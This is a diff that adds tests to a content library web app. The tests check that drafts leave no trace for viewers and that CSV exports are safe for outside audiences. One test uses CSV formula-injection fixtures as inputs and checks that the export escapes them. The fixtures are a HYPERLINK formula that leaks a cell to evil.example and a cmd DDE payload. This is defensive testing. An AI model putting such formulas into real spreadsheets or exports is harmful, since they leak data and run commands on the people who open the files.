@@ -3,7 +3,8 @@ import { afterAll, beforeAll, describe, expect, it } from 'vitest';
 import { createTestContext, type TestContext } from '../../../test/app.ts';
 import { createTestAsset } from '../../../test/factories.ts';
 import { createAsset, createList, termIds } from '../../../test/library-helpers.ts';
-import { archiveExpiredAssets } from './library.service.ts';
+import { resolveWords } from './library.search.repository.ts';
+import { archiveExpiredAssets, visibleStatuses } from './library.service.ts';
 
 let t: TestContext;
 let tmm: Awaited<ReturnType<TestContext['as']>>;
@@ -417,6 +418,168 @@ describe('outsider paths never carry internal content', () => {
     expect(external.body).toContain('Public tutorial');
     expect(external.body).not.toContain('Internal battlecard');
     expect(external.body).not.toContain(',internal,');
+  });
+});
+
+describe('what a caller cannot see leaves no trace', () => {
+  it('counts in each list only the assets the caller may see', async () => {
+    const list = await createList(tmm, 'Mixed statuses');
+    await createAsset(tmm, list, { title: 'Counted: published one' });
+    await createAsset(tmm, list, { title: 'Counted: published two' });
+    await createAsset(tmm, list, { title: 'Counted: draft', status: 'draft' });
+    const archived = await createAsset(tmm, list, { title: 'Counted: archived' });
+    await tmm.patch(`/api/assets/${archived.id}`, { status: 'archived' });
+    for (const [caller, expected] of [
+      [viewer, 2],
+      [requester, 3],
+      [tmm, 4],
+    ] as const) {
+      const lists = (await caller.get('/api/lists')).body.lists as { id: string; assetCount: number }[];
+      const visible = (await caller.get(`/api/assets?list=${list}&limit=100`)).body;
+      expect(lists.find((l) => l.id === list)?.assetCount).toBe(expected);
+      expect(visible.total).toBe(expected);
+      expect(visible.hits).toHaveLength(expected);
+    }
+  });
+
+  it('counts facets and totals, and picks related assets, among visible assets only', async () => {
+    const list = await createList(tmm, 'Facet leak check');
+    const format = term('format', 'Webinar');
+    const useCase = term('use_case', 'GitOps');
+    const taxonomy = {
+      formatId: format,
+      useCaseIds: [useCase],
+      personaIds: [term('persona', 'Platform Engineer')],
+      solutionIds: [term('solution', 'Automated Software Delivery')],
+    };
+    const shown = await createAsset(tmm, list, { title: 'Facets: published', ...taxonomy });
+    await createAsset(tmm, list, { title: 'Facets: draft', status: 'draft', ...taxonomy });
+    const result = (await viewer.get(`/api/assets?list=${list}`)).body;
+    expect(result.total).toBe(1);
+    expect(result.facets.status).toEqual([expect.objectContaining({ value: 'published', count: 1 })]);
+    expect(result.facets.format).toEqual([expect.objectContaining({ value: format, count: 1 })]);
+    expect(result.facets.useCase).toEqual([expect.objectContaining({ value: useCase, count: 1 })]);
+    const related = (await viewer.get(`/api/assets/${shown.id}/related`)).body.assets as { title: string }[];
+    expect(related.map((a) => a.title)).not.toContain('Facets: draft');
+    const forEditor = (await tmm.get(`/api/assets/${shown.id}/related`)).body.assets as { title: string }[];
+    expect(forEditor.map((a) => a.title)).toContain('Facets: draft');
+  });
+
+  it('never corrects a viewer’s search towards words only drafts contain', async () => {
+    const visible = await createAsset(tmm, listId, {
+      title: 'Marzipanol tasting notes',
+      visibility: 'external',
+    });
+    await createAsset(tmm, listId, {
+      title: 'Unannounced launch',
+      body: 'Codename marzipanel ships next quarter.',
+      status: 'draft',
+    });
+    const search = async (client: typeof viewer, q: string) =>
+      (await client.get(`/api/assets?q=${encodeURIComponent(q)}`)).body.hits as {
+        id: string;
+        title: string;
+      }[];
+    // The draft's word is unknown to a viewer, so it is forgiven as a typo of a word they can see…
+    expect((await search(viewer, 'marzipanel')).map((h) => h.id)).toEqual([visible.id]);
+    // …and an editor, who sees the draft, finds the draft by it.
+    expect((await search(tmm, 'marzipanel')).map((h) => h.title)).toEqual(['Unannounced launch']);
+    // The lexicon a viewer's typo is corrected from holds only words of what they may see.
+    const [typo] = await resolveWords(t.db, 'marzipanxl tasting', { statuses: visibleStatuses('viewer') });
+    expect(typo?.near).toEqual(['marzipanol']);
+    const [editorTypo] = await resolveWords(t.db, 'marzipanxl tasting', { statuses: visibleStatuses('tmm') });
+    expect(editorTypo?.near).toContain('marzipanel');
+  });
+});
+
+describe('CSV exports', () => {
+  const parse = async (csv: string) => {
+    const Papa = (await import('papaparse')).default;
+    const parsed = Papa.parse<Record<string, string>>(csv, { header: true, skipEmptyLines: true });
+    return { rows: parsed.data, columns: parsed.meta.fields ?? [] };
+  };
+
+  it('hands outsiders only outsider columns: no people, lists, tags, body or bookkeeping', async () => {
+    const contributor = await t.as('tmm');
+    const owner = await t.as('tmm');
+    const ownerEmail = (await owner.get('/api/auth/session')).body.user.email as string;
+    const contributorEmail = (await contributor.get('/api/auth/session')).body.user.email as string;
+    const internalList = await createList(tmm, 'Competitive deals (internal)');
+    const asset = await createAsset(tmm, internalList, {
+      title: 'Partner-ready tutorial',
+      summary: 'How to set up the pipeline.',
+      body: 'Internal note: the customer in the screenshots is Acme.',
+      keyTakeaway: 'Pitch it against the incumbent',
+      visibility: 'external',
+      safeToShare: true,
+      ownerId: owner.userId,
+      contributorIds: [contributor.userId],
+      tags: ['deal-desk'],
+      externalKey: 'partner-tutorial-key',
+      primaryUrl: 'https://example.test/partner-tutorial',
+      solutionIds: [term('solution', 'Automated Software Delivery')],
+    });
+    const response = await viewer.get('/api/assets/export?audience=external');
+    expect(response.status).toBe(200);
+    const csv = response.body as string;
+    for (const secret of [
+      ownerEmail,
+      contributorEmail,
+      'Competitive deals (internal)',
+      'Internal note',
+      'incumbent',
+      'deal-desk',
+      'partner-tutorial-key',
+      asset.id,
+    ])
+      expect(csv, secret).not.toContain(secret);
+    const { rows, columns } = await parse(csv);
+    for (const column of ['owner_email', 'contributor_emails', 'lists', 'body', 'visibility', 'status', 'id'])
+      expect(columns).not.toContain(column);
+    expect(rows.find((row) => row.title === 'Partner-ready tutorial')).toMatchObject({
+      summary: 'How to set up the pipeline.',
+      solutions: 'Automated Software Delivery',
+      primary_url: 'https://example.test/partner-tutorial',
+      published_on: '2026-06-15',
+    });
+    // The internal export still carries them, for the team itself.
+    const internal = (await tmm.get('/api/assets/export')).body as string;
+    expect(internal).toContain(ownerEmail);
+    expect(internal).toContain('Competitive deals (internal)');
+  });
+
+  it('escapes cells that spreadsheets would run as formulas, and the import reads them back unchanged', async () => {
+    const hostile = {
+      title: '=HYPERLINK("https://evil.example/?leak="&A1,"Open")',
+      summary: '@SUM(1+1)',
+      body: "\r=cmd|' /C calc'!A0",
+      keyTakeaway: "'=already quoted",
+      tags: ['+plus', '-minus', "'quoted"],
+    };
+    const asset = await createAsset(tmm, listId, {
+      ...hostile,
+      visibility: 'external',
+      safeToShare: true,
+      primaryUrl: 'https://example.test/hostile',
+    });
+    const ends = ['=', '+', '-', '@', '\t', '\r'];
+    for (const audience of ['internal', 'external']) {
+      const { rows } = await parse((await tmm.get(`/api/assets/export?audience=${audience}`)).body);
+      const row = rows.find((r) => r.primary_url === 'https://example.test/hostile');
+      expect(row, audience).toBeDefined();
+      for (const [column, value] of Object.entries(row ?? {}))
+        expect(ends.includes(value.charAt(0)), `${audience} ${column}: ${value}`).toBe(false);
+      expect(row?.title).toBe(`'${hostile.title}`);
+      expect(row?.summary).toBe(`'${hostile.summary}`);
+    }
+    const { rows } = await parse((await tmm.get('/api/assets/export')).body);
+    const row = rows.find((r) => r.id === asset.id) as Record<string, string>;
+    expect(row.body).toBe(`'${hostile.body}`);
+    expect(row.key_takeaway).toBe(`''=already quoted`);
+    expect(row.tags).toBe(`'+plus; -minus; 'quoted`);
+    const result = (await tmm.post('/api/assets/import', { rows: [row] })).body;
+    expect(result.outcomes[0]).toMatchObject({ action: 'unchanged', id: asset.id });
+    expect((await tmm.get(`/api/assets/${asset.id}`)).body).toMatchObject({ ...hostile, version: 1 });
   });
 });
 
